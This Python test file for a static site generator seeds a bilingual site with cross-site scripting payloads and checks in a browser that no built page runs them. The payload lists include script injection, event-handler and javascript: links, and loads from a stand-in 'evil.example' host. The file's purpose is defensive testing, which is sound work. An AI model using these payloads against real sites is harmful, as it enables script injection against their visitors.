"""Hostile content: payloads in every place that takes an author's words, in both languages, in a real browser.

Each payload calls `pwn()`, which no page defines: a page that runs it has an error at the least.  The site is published
in spite of what is wrong with it, so that nothing is kept out by an error that stops the build.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright import sync_api

from dlmap import build
from support.static_host import hosted

PAYLOADS = (
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=pwn()>",
    "<img/src='x'/onerror='pwn()'>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<iframe srcdoc='<script>parent.pwn()</script>'>",
    "<body onload=pwn()>",
    "<a href=javascript:pwn()>x</a>",
    "<a href='&#106;avascript:pwn()'>x</a>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=pwn()>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<form action=javascript:pwn()><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:pwn()>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    '"onmouseover=pwn() x="',
    "' autofocus onfocus=pwn() x='",
    "</title><script>pwn()</script>",
    "</script><script>pwn()</script>",
    "--><script>pwn()</script><!--",
    "{{ pwn() }}{% raw %}${pwn()}",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
)
HREFS = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java&#10;script:pwn()",
    "&#x6A;avascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "blob:https://evil.example/1",
    "view-source:javascript:pwn()",
    "feed:javascript:pwn()",
    "intent:pwn()#Intent;end",
    "//evil.example/",
    "\\\\evil.example\\",
    "file:///etc/passwd",
)
LANGUAGES = ("zh", "en")


def quoted(text: str) -> str:
    """As YAML and TOML both read it."""
    return json.dumps(text)


def outline(lang: str) -> str:
    """Every payload in every place of an outline; the mark tells payloads apart: `nr7`."""
    parts = [f"---\ntitle: {quoted(PAYLOADS[0])}\ndescription: {quoted(PAYLOADS[3])}\nlang: {lang}\n---\n\n"]
    parts.append(f"{PAYLOADS[5]}\n\n# Part {PAYLOADS[3]} {{#part}}\n\n## Type {PAYLOADS[5]} {{#type}}\n")
    for number, payload in enumerate(PAYLOADS):
        href = HREFS[number % len(HREFS)]
        parts.append(
            f"\n### nr{number} {payload} {{#family-{number}}}\n\n"
            f"nr{number} text {payload} text [words {payload}](https://good.example/)"
            f" [link]({href}) [link](<{href}>) [title](https://good.example/ {quoted(payload)})"
            f" ![alt {payload}](picture.png) ![x]({href}) `code {payload}` <{href}>\n\n{payload}\n\n"
            f"```{payload.replace('`', '')}\ncode {payload}\n```\n\n"
            f"$x {payload}$ and\n\n$$\\text{{{payload}}}$$\n\n$$\\undefined {payload}$$\n\n"
            f"| head {payload} | b |\n|---|---|\n| cell {payload} | c |\n\n"
            f"- approach {payload}: such as **name{number} {payload}**{{#method-{number}}}\n"
            f"\n#### id {{#{payload}}}\n\nText[^{number}].\n\n[^{number}]: note {payload}\n"
        )
    return "".join(parts)


def article(lang: str, number: int) -> str:
    payload, href = PAYLOADS[number], HREFS[number % len(HREFS)]
    return (
        f"---\ntitle: {quoted(f'nr{number} {payload}')}\ntags: [{quoted(payload)}]\nauthor: {quoted(payload)}\n"
        f"description: {quoted(payload)}\ncover: {quoted(href)}\ndate: 2024-01-02\nlang: {lang}\n---\n\n"
        f"## head {payload}\n\nnr{number} text {payload} [link]({href}) [title](/zh/ {quoted(payload)}) ![alt {payload}](x.png)"
        f'\n\n{payload}\n\n<div>\n{payload}\n<a href="{href}">x</a></div>\n\n```{payload}\ncode {payload}\n```\n\n'
        f"$x {payload}$ $$\\undefined {payload}$$\n\n> quote {payload}\n"
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "content" / "articles").mkdir(parents=True)
    (folder / "content" / "notes").mkdir()
    title = f"title = {{zh = {quoted(PAYLOADS[20])}, en = {quoted(PAYLOADS[21])}}}\n"
    (folder / "dlmap.toml").write_text(title, "utf-8")
    facts: list[str] = []
    for number, payload in enumerate(PAYLOADS):
        facts.append(
            f"method-{number}:\n  name: {quoted(f'name{number} {payload}')}\n  aliases: [{quoted(f'alias{number} {payload}')}]\n"
            f"  expansion: {quoted(f'expansion {payload}')}\n  year: 2020\n"
            f"  paper: {{title: {quoted(f'paper {payload}')}, url: 'https://good.example/{number}'}}\n"
            f"  summary: {{zh: {quoted(f'summary {payload}')}, en: {quoted(f'summary {payload}')}}}\n"
        )
        for lang in LANGUAGES:
            (folder / "content" / "notes" / f"family-{number}.{lang}.md").write_text(
                f"note {payload}\n", "utf-8"
            )
            name = payload.replace("/", "").replace("\\", "")
            (folder / "content" / "articles" / f"{number} {lang} {name}.md").write_text(
                article(lang, number), "utf-8"
            )
    (folder / "content" / "methods.yml").write_text("".join(facts), "utf-8")
    for lang in LANGUAGES:
        (folder / "content" / f"outline.{lang}.md").write_text(outline(lang), "utf-8")
    result = build(folder, folder / "site", keep_going=True, base_url="https://map.example/")
    assert result.published
    assert {"DL303", "DL401"} <= {diagnostic.code for diagnostic in result.diagnostics}
    return folder / "site"


INIT = """
window.pwn = () => console.error("PWNED");
document.addEventListener("securitypolicyviolation", event =>
  console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`));
"""
JUDGE = r"""() => {
  const wrong = [];
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) wrong.push(`${element.localName} ${name}=${value}`);
      if (["href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background"].includes(name)) {
        const scheme = new URL(value, document.baseURI).protocol;
        const host = new URL(value, document.baseURI).host;
        if (!["http:", "https:", "mailto:", "data:"].includes(scheme)) wrong.push(`${element.localName} ${name}=${value}`);
        if (scheme === "data:" && !/^data:image\//.test(value)) wrong.push(`${element.localName} ${name}=${value}`);
        if (/evil/.test(host)) wrong.push(`${element.localName} ${name}=${value}`);
      }
      if (name === "style" && /url\(|expression|@import/i.test(value)) wrong.push(`${element.localName} style=${value}`);
    }
    if (element.localName === "script" && element.type !== "application/ld+json" && element.type !== "application/json"
        && new URL(element.src || "x:", document.baseURI).origin !== location.origin)
      wrong.push(`script ${element.src}`);
    if (["iframe", "object", "embed", "base", "frame", "applet"].includes(element.localName)) wrong.push(element.localName);
    if (element.localName === "form" && element.hasAttribute("action")) wrong.push("form");
    if (element.localName === "style") wrong.push("style");
    if (element.localName === "meta" && /refresh/i.test(element.httpEquiv) && !/^0; ?url=/i.test(element.content)) wrong.push("refresh");
  }
  for (const script of document.querySelectorAll("script[type='application/ld+json']")) JSON.parse(script.textContent);
  return wrong;
}"""


@contextmanager
def watched(browser: sync_api.Browser, address: str) -> Iterator[tuple[sync_api.Page, list[str]]]:
    """A page, and all that its browser complains about: dialogs, errors, refusals of the policy, other hosts."""
    context = browser.new_context()
    context.add_init_script(INIT)
    page = context.new_page()
    complaints: list[str] = []

    def dismiss(dialog: sync_api.Dialog) -> None:
        complaints.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def note_other_hosts(request: sync_api.Request) -> None:
        if not request.url.startswith((address, "data:")):
            complaints.append(request.url)

    def note_messages(message: sync_api.ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            complaints.append(message.text)

    page.on("dialog", dismiss)
    page.on("console", note_messages)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("request", note_other_hosts)
    yield page, complaints
    context.close()


NUMBERED = re.compile(r"(zh|en)/(?:articles/|family-|method-)(\d+)")
"""The pages of one payload."""


def pages_of(site: Path, *, in_both_languages: bool) -> list[str]:
    """The pages of the site; those of one payload in one language only, in turn, unless both are asked for."""
    # The browser leaves a redirect at once; the page that it leads to is among the others.
    files = (file for file in site.rglob("*.html") if b'http-equiv="refresh"' not in file.read_bytes())
    paths = sorted(file.relative_to(site).as_posix() for file in files)

    def is_its_turn(path: str) -> bool:
        payload = NUMBERED.match(path)
        return payload is None or payload[1] == LANGUAGES[int(payload[2]) % 2]

    return [path for path in paths if in_both_languages or is_its_turn(path)]


@pytest.mark.parametrize(
    "in_both_languages",
    [pytest.param(False, id="in-turn"), pytest.param(True, id="all", marks=pytest.mark.nightly)],
)
def test_2a_no_page_runs_or_holds_what_an_author_smuggles_in(
    site: Path, browser: sync_api.Browser, in_both_languages: bool
) -> None:
    paths = pages_of(site, in_both_languages=in_both_languages)
    assert len(paths) > 3 * len(PAYLOADS)
    wrong: dict[str, list[str]] = {}
    with hosted(site) as address, watched(browser, address) as (page, complaints):
        for path in paths:
            complaints.clear()
            page.goto(address + quote(path))
            wrong[path] = [*page.evaluate(JUDGE), *complaints]
    assert {path: faults for path, faults in wrong.items() if faults} == {}


@pytest.mark.parametrize("lang", LANGUAGES)
def test_2a_the_words_are_shown_as_words(lang: str, site: Path) -> None:
    """Every payload has reached its pages, for a test that finds nothing would prove nothing."""
    for number in range(len(PAYLOADS)):
        assert count_of_payloads(site / lang / f"family-{number}" / "index.html", f"nr{number} text") > 3
    # Where Markdown reads something else in a payload, the name is not bold, and no method.
    methods = sorted((site / lang).glob("method-*/index.html"))
    assert len(methods) > 20
    for method in methods:
        assert count_of_payloads(method, f"name{method.parent.name.removeprefix('method-')}") > 3


def count_of_payloads(page: Path, mark: str) -> int:
    words = page.read_text("utf-8")
    assert mark in words
    return words.count("pwn") + words.count("evil")


@pytest.mark.parametrize("lang", LANGUAGES)
def test_2a_nor_do_the_scripts_that_show_them(lang: str, site: Path, browser: sync_api.Browser) -> None:
    """What scripts put together from data: results of the search, and the preview of a link."""
    with hosted(site) as address, watched(browser, address) as (page, complaints):
        page.goto(f"{address}{lang}/family-3/")
        page.keyboard.press("/")
        for number in (3, 20):
            page.get_by_role("combobox").fill(f"name{number}")
            hit = page.get_by_role("option").filter(has_text=f"name{number} ").first
            sync_api.expect(hit).to_be_visible()
            assert page.evaluate(JUDGE) == []
        page.goto(f"{address}{lang}/family-3/")
        page.locator(".text a[href$='/method-3/']").first.focus()
        sync_api.expect(page.get_by_role("tooltip")).to_contain_text("onerror")
        assert page.evaluate(JUDGE) == []
        assert complaints == []
